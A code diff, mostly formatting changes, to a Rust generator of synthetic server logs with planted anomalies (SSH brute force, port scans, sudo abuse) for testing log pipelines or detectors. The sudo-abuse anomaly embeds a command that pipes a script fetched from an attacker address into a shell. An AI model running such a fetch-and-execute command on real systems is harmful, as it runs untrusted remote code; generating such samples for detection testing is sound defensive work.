@@ -109,10 +109,20 @@ pub enum Format {
 
 const HOST_ROLES: &[&str] = &["web", "web", "app", "db", "bastion", "mail", "vpn"];
 const USERS: &[&str] = &["deploy", "alice", "bob", "ops", "backup", "ci"];
-const BAD_USERS: &[&str] = &["admin", "root", "test", "oracle", "ubuntu", "guest", "postgres", "pi"];
+const BAD_USERS: &[&str] = &[
+    "admin", "root", "test", "oracle", "ubuntu", "guest", "postgres", "pi",
+];
 const PATHS: &[&str] = &[
-    "/", "/login", "/api/v1/orders", "/api/v1/customers", "/static/app.js", "/static/app.css",
-    "/api/v1/search?q=router", "/healthz", "/api/v1/invoices/2026-11", "/favicon.ico",
+    "/",
+    "/login",
+    "/api/v1/orders",
+    "/api/v1/customers",
+    "/static/app.js",
+    "/static/app.css",
+    "/api/v1/search?q=router",
+    "/healthz",
+    "/api/v1/invoices/2026-11",
+    "/favicon.ico",
 ];
 const AGENTS: &[&str] = &[
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
@@ -159,14 +169,18 @@ impl Generator {
             .collect::<BTreeMap<_, Vec<String>>>();
         let mut planned: Vec<_> = (0..config.anomalies)
             .map(|_| {
-                let at = if config.rows == 0 { 0 } else { rng.random_range(0..config.rows) };
+                let at = if config.rows == 0 {
+                    0
+                } else {
+                    rng.random_range(0..config.rows)
+                };
                 let tenant = config.tenants[rng.random_range(0..config.tenants.len())].clone();
                 let host = hosts[&tenant][rng.random_range(0..6)].clone();
                 let kind = AnomalyKind::ALL[rng.random_range(0..AnomalyKind::ALL.len())];
                 (at, tenant, host, kind)
             })
             .collect();
-        planned.sort_by(|a, b| b.0.cmp(&a.0));
+        planned.sort_by_key(|p| std::cmp::Reverse(p.0));
         let manifest = Manifest {
             seed: config.seed,
             ..Default::default()
@@ -193,11 +207,19 @@ impl Generator {
 
     fn ip(&mut self, internal: bool) -> String {
         if internal {
-            format!("10.0.{}.{}", self.rng.random_range(0..8), self.rng.random_range(2..250))
+            format!(
+                "10.0.{}.{}",
+                self.rng.random_range(0..8),
+                self.rng.random_range(2..250)
+            )
         } else {
             // Documentation ranges (RFC 5737): realistic, never routable.
             let nets = ["203.0.113", "198.51.100", "192.0.2"];
-            format!("{}.{}", nets[self.rng.random_range(0..3)], self.rng.random_range(1..255))
+            format!(
+                "{}.{}",
+                nets[self.rng.random_range(0..3)],
+                self.rng.random_range(1..255)
+            )
         }
     }
 
@@ -206,7 +228,8 @@ impl Generator {
     }
 
     fn normal(&mut self, ts_ms: i64) -> Event {
-        let tenant = self.config.tenants[self.rng.random_range(0..self.config.tenants.len())].clone();
+        let tenant =
+            self.config.tenants[self.rng.random_range(0..self.config.tenants.len())].clone();
         let host = self.hosts[&tenant][self.rng.random_range(0..6)].clone();
         let pid = self.rng.random_range(300..65_000);
         let roll = self.rng.random_range(0..100);
@@ -221,7 +244,11 @@ impl Generator {
                     98 => 401,
                     _ => 500,
                 };
-                let method = if self.rng.random_bool(0.8) { "GET" } else { "POST" };
+                let method = if self.rng.random_bool(0.8) {
+                    "GET"
+                } else {
+                    "POST"
+                };
                 let path = self.pick(PATHS);
                 let agent = self.pick(AGENTS);
                 let size = self.rng.random_range(200..48_000);
@@ -248,7 +275,8 @@ impl Generator {
                 let ip = self.ip(false);
                 let user = self.pick(BAD_USERS);
                 let port = self.rng.random_range(30_000..65_000);
-                let msg = format!("Failed password for invalid user {user} from {ip} port {port} ssh2");
+                let msg =
+                    format!("Failed password for invalid user {user} from {ip} port {port} ssh2");
                 ("sshd", 5, 10, msg, Some(ip))
             }
             41..=45 => {
@@ -266,13 +294,18 @@ impl Generator {
                     "/usr/bin/journalctl -u app --since today",
                     "/usr/bin/tail -n 200 /var/log/nginx/error.log",
                 ]);
-                let msg = format!("{user} : TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}", self.rng.random_range(0..4));
+                let msg = format!(
+                    "{user} : TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
+                    self.rng.random_range(0..4)
+                );
                 ("sudo", 5, 10, msg, None)
             }
             51..=60 => {
                 let src = self.ip(false);
                 let dst = self.ip(true);
-                let dpt = *[22u16, 23, 80, 443, 3389, 8080, 445].choose(&mut self.rng).unwrap_or(&22);
+                let dpt = *[22u16, 23, 80, 443, 3389, 8080, 445]
+                    .choose(&mut self.rng)
+                    .unwrap_or(&22);
                 let msg = format!(
                     "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={src} DST={dst} LEN=60 TOS=0x00 TTL=52 ID={} PROTO=TCP SPT={} DPT={dpt} WINDOW=1024 SYN URGP=0",
                     self.rng.random_range(1..65_000),
@@ -286,9 +319,16 @@ impl Generator {
             }
             71..=85 => {
                 let msg = match self.rng.random_range(0..4) {
-                    0 => format!("Started Session {} of User {}.", self.rng.random_range(1..99_999), self.pick(USERS)),
+                    0 => format!(
+                        "Started Session {} of User {}.",
+                        self.rng.random_range(1..99_999),
+                        self.pick(USERS)
+                    ),
                     1 => "nginx.service: Reloading configuration files.".to_string(),
-                    2 => format!("session-{}.scope: Deactivated successfully.", self.rng.random_range(1..99_999)),
+                    2 => format!(
+                        "session-{}.scope: Deactivated successfully.",
+                        self.rng.random_range(1..99_999)
+                    ),
                     _ => "Started Daily apt upgrade and clean activities.".to_string(),
                 };
                 ("systemd", 6, 3, msg, None)
@@ -297,15 +337,31 @@ impl Generator {
                 let order = self.rng.random_range(1_000..99_999);
                 let ms = self.rng.random_range(3..400);
                 if self.rng.random_bool(0.05) {
-                    let msg = format!("order {order} failed: payment gateway returned 502 after {ms} ms; retry scheduled (attempt 1 of 3)");
+                    let msg = format!(
+                        "order {order} failed: payment gateway returned 502 after {ms} ms; retry scheduled (attempt 1 of 3)"
+                    );
                     ("payments-api", 3, 16, msg, None)
                 } else {
-                    let msg = format!("order {order} processed in {ms} ms (items={}, currency=EUR, region=eu-west-1)", self.rng.random_range(1..9));
+                    let msg = format!(
+                        "order {order} processed in {ms} ms (items={}, currency=EUR, region=eu-west-1)",
+                        self.rng.random_range(1..9)
+                    );
                     ("payments-api", 6, 16, msg, None)
                 }
             }
         };
-        Event { tenant, ts_ms, host, app, pid, severity, facility, message, source_ip, anomaly: None }
+        Event {
+            tenant,
+            ts_ms,
+            host,
+            app,
+            pid,
+            severity,
+            facility,
+            message,
+            source_ip,
+            anomaly: None,
+        }
     }
 
     fn plan_burst(&mut self, row: usize, tenant: TenantId, host: String, kind: AnomalyKind) {
@@ -320,7 +376,15 @@ impl Generator {
                 AnomalyKind::SshBruteForce => {
                     let bad = self.pick(BAD_USERS);
                     let port = self.rng.random_range(30_000..65_000);
-                    ("sshd", 5, 10, format!("Failed password for invalid user {bad} from {attacker} port {port} ssh2"), Some(attacker.clone()))
+                    (
+                        "sshd",
+                        5,
+                        10,
+                        format!(
+                            "Failed password for invalid user {bad} from {attacker} port {port} ssh2"
+                        ),
+                        Some(attacker.clone()),
+                    )
                 }
                 AnomalyKind::PortScan => {
                     let dst = format!("10.0.0.{}", 5 + row % 200);
@@ -339,7 +403,10 @@ impl Generator {
                     ("nginx", 3, 16, msg, None)
                 }
                 AnomalyKind::SudoAbuse => {
-                    let msg = format!("{user} : user NOT in sudoers ; TTY=pts/{} ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c 'curl -s http://{attacker}/x | sh'", j % 4);
+                    let msg = format!(
+                        "{user} : user NOT in sudoers ; TTY=pts/{} ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c 'curl -s http://{attacker}/x | sh'",
+                        j % 4
+                    );
                     ("sudo", 1, 10, msg, None)
                 }
             };
@@ -403,11 +470,34 @@ fn rfc3339(ms: i64) -> String {
         .to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
 }
 
-const SEVERITY_NAMES: [&str; 8] = ["emerg", "alert", "crit", "err", "warning", "notice", "info", "debug"];
+const SEVERITY_NAMES: [&str; 8] = [
+    "emerg", "alert", "crit", "err", "warning", "notice", "info", "debug",
+];
 const FACILITY_NAMES: [&str; 24] = [
-    "kern", "user", "mail", "daemon", "auth", "syslog", "lpr", "news", "uucp", "cron",
-    "authpriv", "ftp", "ntp", "security", "console", "solaris-cron", "local0", "local1",
-    "local2", "local3", "local4", "local5", "local6", "local7",
+    "kern",
+    "user",
+    "mail",
+    "daemon",
+    "auth",
+    "syslog",
+    "lpr",
+    "news",
+    "uucp",
+    "cron",
+    "authpriv",
+    "ftp",
+    "ntp",
+    "security",
+    "console",
+    "solaris-cron",
+    "local0",
+    "local1",
+    "local2",
+    "local3",
+    "local4",
+    "local5",
+    "local6",
+    "local7",
 ];
 
 impl Event {
@@ -426,8 +516,19 @@ impl Event {
                     "facility": FACILITY_NAMES[(self.facility as usize).min(23)],
                     "message": self.message,
                 });
-                if let (Some(ip), Some(map)) = (&self.source_ip, obj.as_object_mut()) {
-                    map.insert("source_ip".into(), ip.clone().into());
+                if let Some(map) = obj.as_object_mut() {
+                    if let Some(ip) = &self.source_ip {
+                        map.insert("source_ip".into(), ip.clone().into());
+                    }
+                    // What shippers typically attach; lands in structured_data.
+                    map.insert("env".into(), "production".into());
+                    map.insert("dc".into(), "eu-west-1a".into());
+                    let trace =
+                        (self.ts_ms as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ self.pid as u64;
+                    map.insert(
+                        "trace_id".into(),
+                        format!("{trace:016x}{:08x}", self.pid).into(),
+                    );
                 }
                 obj.to_string()
             }
@@ -443,7 +544,10 @@ impl Event {
                 let when = DateTime::<Utc>::from_timestamp_millis(self.ts_ms)
                     .unwrap_or_default()
                     .format("%b %e %H:%M:%S");
-                format!("<{pri}>{when} {} {}[{}]: {}", self.host, self.app, self.pid, self.message)
+                format!(
+                    "<{pri}>{when} {} {}[{}]: {}",
+                    self.host, self.app, self.pid, self.message
+                )
             }
         }
     }
@@ -456,7 +560,10 @@ mod tests {
     fn config(seed: u64) -> GenConfig {
         GenConfig {
             seed,
-            tenants: vec![TenantId::new("acme").unwrap(), TenantId::new("globex").unwrap()],
+            tenants: vec![
+                TenantId::new("acme").unwrap(),
+                TenantId::new("globex").unwrap(),
+            ],
             rows: 2_000,
             anomalies: 3,
             start_ms: 1_795_651_200_000,
@@ -466,9 +573,15 @@ mod tests {
 
     #[test]
     fn same_seed_same_stream() {
-        let a: Vec<String> = Generator::new(config(7)).map(|e| e.render(Format::Ndjson)).collect();
-        let b: Vec<String> = Generator::new(config(7)).map(|e| e.render(Format::Ndjson)).collect();
-        let c: Vec<String> = Generator::new(config(8)).map(|e| e.render(Format::Ndjson)).collect();
+        let a: Vec<String> = Generator::new(config(7))
+            .map(|e| e.render(Format::Ndjson))
+            .collect();
+        let b: Vec<String> = Generator::new(config(7))
+            .map(|e| e.render(Format::Ndjson))
+            .collect();
+        let c: Vec<String> = Generator::new(config(8))
+            .map(|e| e.render(Format::Ndjson))
+            .collect();
         assert_eq!(a, b);
         assert_ne!(a, c);
     }
@@ -482,8 +595,14 @@ mod tests {
         let burst_rows: usize = m.anomalies.iter().map(|a| a.rows).sum();
         assert_eq!(m.total_rows, 2_000 + burst_rows);
         assert_eq!(events.len(), m.total_rows);
-        assert_eq!(events.iter().filter(|e| e.anomaly.is_some()).count(), burst_rows);
-        let acme = events.iter().filter(|e| e.tenant.as_str() == "acme").count();
+        assert_eq!(
+            events.iter().filter(|e| e.anomaly.is_some()).count(),
+            burst_rows
+        );
+        let acme = events
+            .iter()
+            .filter(|e| e.tenant.as_str() == "acme")
+            .count();
         assert_eq!(m.rows_per_tenant["acme"], acme);
         assert_eq!(m.rows_per_tenant.values().sum::<usize>(), m.total_rows);
     }
@@ -493,16 +612,25 @@ mod tests {
         let e = Generator::new(config(3)).next().unwrap();
         let json: serde_json::Value = serde_json::from_str(&e.render(Format::Ndjson)).unwrap();
         assert!(json["message"].is_string() && json["tenant_id"].is_string());
-        assert!(e.render(Format::Rfc5424).starts_with('<') && e.render(Format::Rfc5424).contains(">1 "));
-        assert!(e.render(Format::Rfc3164).contains(&format!("{}[{}]: ", e.app, e.pid)));
+        assert!(
+            e.render(Format::Rfc5424).starts_with('<') && e.render(Format::Rfc5424).contains(">1 ")
+        );
+        assert!(
+            e.render(Format::Rfc3164)
+                .contains(&format!("{}[{}]: ", e.app, e.pid))
+        );
     }
 
     #[test]
     fn ndjson_lines_are_about_300_bytes() {
-        let lens: Vec<usize> = Generator::new(GenConfig { rows: 5_000, anomalies: 0, ..config(5) })
-            .map(|e| e.render(Format::Ndjson).len())
-            .collect();
+        let lens: Vec<usize> = Generator::new(GenConfig {
+            rows: 5_000,
+            anomalies: 0,
+            ..config(5)
+        })
+        .map(|e| e.render(Format::Ndjson).len())
+        .collect();
         let mean = lens.iter().sum::<usize>() / lens.len();
-        assert!((200..=400).contains(&mean), "mean line length {mean}");
+        assert!((270..=350).contains(&mean), "mean line length {mean}");
     }
 }
